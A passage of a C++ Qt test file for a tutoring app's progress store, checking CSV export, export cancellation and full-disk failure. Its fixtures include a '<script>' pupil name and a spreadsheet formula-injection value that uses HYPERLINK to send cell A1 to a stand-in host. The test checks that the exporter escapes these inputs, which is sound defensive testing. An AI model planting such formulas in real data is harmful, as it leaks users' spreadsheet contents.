    tutor::Attempt missing = answer(Now.addMSecs(-1), tutor::Operation::Multiplication, 7, 8,
        u"\"56\""_s, u"56"_s, 0, tutor::AnswerMode::MissingNumber);
    missing.level = tutor::Level::WarmUp;
    QVERIFY(store.record(rtl, missing));
    QVERIFY(store.record(link,
        answer(Now.addDays(-1), tutor::Operation::Subtraction, 3, 6, u"-3"_s, u"3"_s, 12034)));
    QVERIFY(store.record(
        jurgen, answer(Now.addSecs(-60), tutor::Operation::Addition, 4, 4, u"8"_s, u"8"_s, 2500)));

    QBuffer csv;
    csv.open(QIODevice::WriteOnly);
    QList<std::pair<qint64, qint64>> steps;
    QVERIFY(store.exportCsv(csv, [&steps](qint64 done, qint64 total) {
        steps.append({ done, total });
        return true;
    }));
    // Times five hours behind UTC, as the zone set in main().
    const QByteArray expected
        = "\xEF\xBB\xBFPupil,Date and time,Activity,Level,Operation,"
          "First number,Second number,Answer given,Right answer,"
          "\"Right (1 = yes, 0 = no)\",Seconds taken\r\n"
          "<script>\u200F\u05E0\u05D5\u05E2\u05D4,"
          "2026-12-09T03:29:59.999-05:00,missing number,"
          "Warm Up,multiplication,7,8,\"\"\"56\"\"\",56,0,0\r\n"
          "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\","
          "2026-12-08T03:30:00.000-05:00,practice,Beginner,subtraction,"
          "3,6,'-3,3,0,12.034\r\n"
          "\"Ann \"\"Bee\"\", Jr.\nsecond line\",2026-12-09T02:30:00.000-05:00,"
          "missing operation,Beginner,addition,2,3,x,'+,0,4\r\n"
          "\"Ann \"\"Bee\"\", Jr.\nsecond line\",2026-12-09T03:28:30.000-05:00,"
          "time trial,Expert,subtraction,0.5,12.25,\"1,5\",'-11.75,0,0.02\r\n"
          "J\xC3\xBCrgen,2026-12-09T03:29:00.000-05:00,practice,Beginner,"
          "addition,4,4,8,8,1,2.5\r\n"
          "Zed,2026-12-09T03:29:30.000-05:00,My Facts,,multiplication,"
          "7,8,54,56,0,3.2\r\n"
          "Zed,2026-12-09T03:30:00.000-05:00,practice,Beginner,division,"
          "12,4,3,3,1,1.5\r\n";
    QCOMPARE(csv.data(), expected);
    QCOMPARE(QString::fromUtf8(csv.data()).split(u"\r\n"_s).at(5).section(u',', 0, 0), u"Jürgen"_s);
    QCOMPARE(steps.first(), std::make_pair(0LL, 7LL));
    QCOMPARE(steps.last(), std::make_pair(7LL, 7LL));
}

void ProgressStoreTest::csvExportCanBeStopped()
{
    QTemporaryDir folder;
    ProgressStore store(folder.filePath(u"progress.sqlite"_s));
    store.open(Now);
    QVERIFY(store.recordMany(*store.addPupil(u"Ann"_s), someAnswers(3, 10000)));
    QBuffer csv;
    csv.open(QIODevice::WriteOnly);
    qint64 reached = 0;
    QVERIFY(!store.exportCsv(csv, [&reached](qint64 done, qint64 total) {
        reached = done;
        return done < total / 2;
    }));
    QVERIFY(reached >= 5000 && reached < 10000);
    FullDevice full;
    full.open(QIODevice::WriteOnly);
    QVERIFY(!store.exportCsv(full));
}

int main(int argc, char *argv[])
{
    // Local days and dated names are checked five hours behind UTC, with no
    // time zone files needed.
    qputenv("TZ", "XST5");
    tzset();
    QCoreApplication app(argc, argv);
    const QString fullDisk = qEnvironmentVariable(FullDiskVariable);
    if (!fullDisk.isEmpty())
        return keepAnswersUntilFull(fullDisk);
    ProgressStoreTest test;
    QTEST_SET_MAIN_SOURCE_PATH
    return QTest::qExec(&test, argc, argv);
}

#include "progress_store_test.moc"
